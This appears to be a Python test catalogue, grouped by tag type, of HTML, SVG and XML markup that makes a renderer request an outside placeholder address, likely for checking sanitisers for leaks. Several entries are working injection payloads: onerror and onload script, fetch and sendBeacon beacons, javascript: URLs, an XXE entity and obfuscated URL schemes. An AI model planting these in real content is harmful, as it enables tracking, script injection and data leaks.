"""Ways in which markup asks for something from outside: HTM-41 to HTM-261, in groups. @U is the vector's own address, @H
its host. Written from the catalogue's list of what has leaked in some program; each is a body, or a head where it says so.
"""

# Kinds of relation that some browser has fetched, looked up or connected for.
RELATIONS = """stylesheet;alternate stylesheet;icon;shortcut icon;apple-touch-icon;apple-touch-icon-precomposed
apple-touch-startup-image;mask-icon;fluid-icon;image_src;manifest;preload;prefetch;prerender;preconnect;dns-prefetch
modulepreload;subresource;import;next;prev;first;last;up;top;contents;index;glossary;help;search;author;license;bookmark
chapter;section;subsection;appendix;copyright;start;feedurl;feed;alternate;pingback;webmention;canonical;shortlink;amphtml
P3Pv1;timesheet;template;serviceworker;offline;expect;dictionary;compression-dictionary;privacy-policy;terms-of-service
monetization;me""".replace("\n", ";").split(";")

DOCUMENT = [
    '<!DOCTYPE html SYSTEM "@U"><p>x', '<!DOCTYPE html PUBLIC "-//X//DTD X//EN" "@U" [<!ENTITY e SYSTEM "@U">]><p>&e;',
    '<html manifest="@U"><p>x', '<html><head profile="@U"></head><p>x', '<base href="@U/"><img src="base.png"><a href="x">x</a>',
    '<?IMPORT namespace="x" implementation="@U" ?><x:y>', '<?xml-stylesheet type="text/css" href="@U"?><p>x',
    '<meta http-equiv="refresh" content="0; url=@U">', '<meta http-equiv="refresh" content="0;@U">',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'self\'; report-uri @U">',
    '<meta http-equiv="Link" content="<@U>; rel=stylesheet">', '<meta http-equiv="Set-Cookie" content="a=b">'
    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//@H/x">x</a>',
    '<meta name="copyright" content="<img src=\'@U\'>">', '<meta name="reading-view" content="@U">',
    '<meta property="og:image" content="@U"><meta name="twitter:image" content="@U">',
    '<meta property="al:web:url" content="@U"><meta property="al:ios:url" content="@U">',
    '<!--[if gte IE 4]><img src="@U"><![endif]--><!--[if !IE]><!--><img src="@U"><!--<![endif]-->',
    '<!--[if mso]><v:rect><v:fill src="@U"/></v:rect><![endif]--><![if !mso]><img src="@U"><![endif]>',
]

PINNED = [f'<meta name="{name}" content="{value}">' for name, value in [
    ("msapplication-config", "@U"), ("msapplication-starturl", "@U"), ("msapplication-badge", "frequency=30;polling-uri=@U"),
    ("msapplication-notification", "frequency=30;polling-uri=@U;polling-uri2=@U"), ("msapplication-TileImage", "@U"),
    ("msapplication-square70x70logo", "@U"), ("msapplication-square150x150logo", "@U"),
    ("msapplication-wide310x150logo", "@U"), ("msapplication-task", "name=x;action-uri=@U;icon-uri=@U"),
    ("application-url", "@U")]]

PICTURES = [
    '<img src="@U">', '<img src=@U>', '<img srcset="@U 1x, @U 2x">', '<img src="x" srcset=",,,,@U 480w" sizes="100vw">',
    '<img dynsrc="@U">', '<img lowsrc="@U">', '<img longdesc="@U">', '<image src="@U">', '<img src="data:image/svg+xml,'
    '<svg xmlns=\'http://www.w3.org/2000/svg\' xmlns:x=\'http://www.w3.org/1999/xlink\'><image x:href=\'@U\'/></svg>">',
    '<picture><source srcset="@U"><img></picture>', '<picture><source media="(min-width:1px)" srcset="@U 1x"><img src="@U">'
    '</picture>', '<img usemap="#m" src="@U"><map name="m"><area shape="rect" coords="0,0,9,9" href="@U" ping="@U"></map>',
    '<img loading="eager" decoding="sync" fetchpriority="high" crossorigin src="@U">', '<img attributionsrc="@U" src="@U">',
    '<input type="image" src="@U">', '<body background="@U"><p>x', '<table background="@U"><tr><td>x</table>',
    '<table><tr background="@U"><td background="@U">x</table>', '<a href="@U" ping="@U" attributionsrc="@U">x</a>',
    '<p style="content:url(@U)">x', '<icon src="@U">', '<img src="@U" width="1" height="1">', '<img/src="@U"/>',
    '<img src="//@H/x">', '<img src="\\\\@H\\x">', '<img src=" \t\n@U">', '<IMG SRC="HTTP://@H/X">', '<img src="http:/@H/x">',
    '<img src="https:@H/x">', '<img src="ht\ntp://@H/x">', '<img src="&#104;ttp://@H/x">', '<img src="http&colon;//@H/x">',
]

FORMS = [
    '<form action="@U"><input type="submit" autofocus></form>', '<form><button formaction="@U" autofocus>x</button></form>',
    '<form id="f" action="@U"></form><button form="f">x</button>', '<isindex action="@U" src="@U">',
    '<input type="image" formaction="@U" src="@U">', '<input onfocus="location=\'@U\'" autofocus><keygen challenge="@U">',
    '<form method="dialog" action="@U"><textarea autofocus></textarea></form>', '<fieldset><input list="l"><datalist id="l" '
    'data="@U"></datalist></fieldset>',
]

MEDIA = [
    '<video src="@U" autoplay>', '<video poster="@U"></video>', '<video preload="auto"><source src="@U"></video>',
    '<video><track default kind="subtitles" src="@U"></video>', '<audio src="@U" autoplay>', '<audio preload><source src="@U">'
    '</audio>', '<bgsound src="@U" loop="1">', '<video controls><source src="@U" type="video/ogg"><source src="@U" '
    'type="video/webm"></video>', '<sound src="@U">',
]

OBJECTS = [
    '<object data="@U"></object>', '<object codebase="@U" classid="x"></object>', '<object type="image/svg+xml" data="@U">',
    '<object><param name="movie" value="@U"><param name="src" value="@U"></object>', '<object archive="@U" data="x"></object>',
    '<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"><param name="movie" value="@U"></object>',
    '<object data="data:text/html,<img src=@U>"></object>', '<embed src="@U">', '<embed code="@U" pluginspage="@U" '
    'pluginurl="@U">', '<embed type="application/x-shockwave-flash" src="@U">', '<applet code="x" codebase="@U" archive="@U">'
    '</applet>', '<applet object="@U"></applet>', '<portal src="@U"></portal>', '<fencedframe src="@U"></fencedframe>',
    '<webview src="@U"></webview>',
]

SCRIPTS = [
    '<script src="@U"></script>', '<script type="module">import "@U"</script>', '<script>new Image().src="@U"</script>',
    '<script>fetch("@U");navigator.sendBeacon("@U")</script>', '<script>1\n//# sourceMappingURL=@U\n</script>',
    '<script type="importmap">{"imports":{"x":"@U"}}</script>', '<script type="speculationrules">{"prerender":[{"urls":["@U"]}]}'
    '</script>', '<script><script></script>new Image().src="@U"</script>', '<img src=x onerror="this.src=\'@U\'">',
    '<svg onload="fetch(\'@U\')">', '<body onload="location=\'@U\'">', '<a href="javascript:location=\'@U\'">x</a>',
    '<details open ontoggle="fetch(\'@U\')">', '<marquee onstart="fetch(\'@U\')">x</marquee>',
]

FRAMES = [
    '<iframe src="@U"></iframe>', '<iframe srcdoc="<img src=\'@U\'>"></iframe>', '<frameset><frame src="@U"></frameset>',
    '<iframe longdesc="@U" src="about:blank"></iframe>', '<frame longdesc="@U">', '<iframe src="javascript:\'<img src=@U>\'">',
    '<iframe src="data:text/html,<img src=@U>"></iframe>', '<iframe src="data:text/html,<meta http-equiv=refresh '
    'content=\'0;@U\'>"></iframe>', '<layer src="@U"></layer><ilayer src="@U"></ilayer>', '<xml src="@U"></xml><span '
    'datasrc="#x"></span>', '<xss:include href="@U"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@U"/>',
    '<menu><menuitem icon="@U">x</menu>', '<command icon="@U">', '<body><noscript><img src="@U"></noscript>',
    '<template><img src="@U"></template><slot><img src="@U"></slot>',
]

GRAPHICS = [
    '<svg><image href="@U"/></svg>', '<svg><image xlink:href="@U"/></svg>', '<svg><use xlink:href="@U#x"/></svg>',
    '<svg><set attributeName="href" to="@U"/><image/></svg>', '<svg><image><animate attributeName="href" values="@U"/></image>'
    '</svg>', '<svg><filter><feImage href="@U"/></filter></svg>', '<svg><rect fill="url(@U#p)" mask="url(@U)" '
    'clip-path="url(@U)" filter="url(@U)"/></svg>', '<svg><script href="@U"/></svg>', '<svg><style>@import "@U";</style></svg>',
    '<svg><foreignObject><img src="@U"></foreignObject></svg>', '<svg><a xlink:href="@U"><text>x</text></a></svg>',
    '<svg><cursor xlink:href="@U"/><font-face-uri xlink:href="@U"/><tref xlink:href="@U"/></svg>',
    '<svg><handler type="x" xlink:href="@U"/><discard href="@U"/></svg>', '<math href="@U"><mi xlink:href="@U">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src="@U"></annotation-xml><mglyph src="@U"/></math>',
    '<v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#VML)" src="@U"></v:vmlframe>',
    '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="@U"/><v:fill src="@U"/></v:rect>',
    '<?xml-stylesheet type="text/xsl" href="@U"?><xsl:import href="@U"/><xsl:include href="@U"/>',
    '<xml id="i"><x src="@U"/></xml><table datasrc="#i"><tr><td><span datafld="x">',
]

LINKS = [f'<link rel="{relation}" href="@U">' for relation in RELATIONS]
GROUPS = {"document": DOCUMENT, "pinned": PINNED, "link": LINKS, "picture": PICTURES, "form": FORMS, "media": MEDIA,
          "object": OBJECTS, "script": SCRIPTS, "frame": FRAMES, "graphic": GRAPHICS}
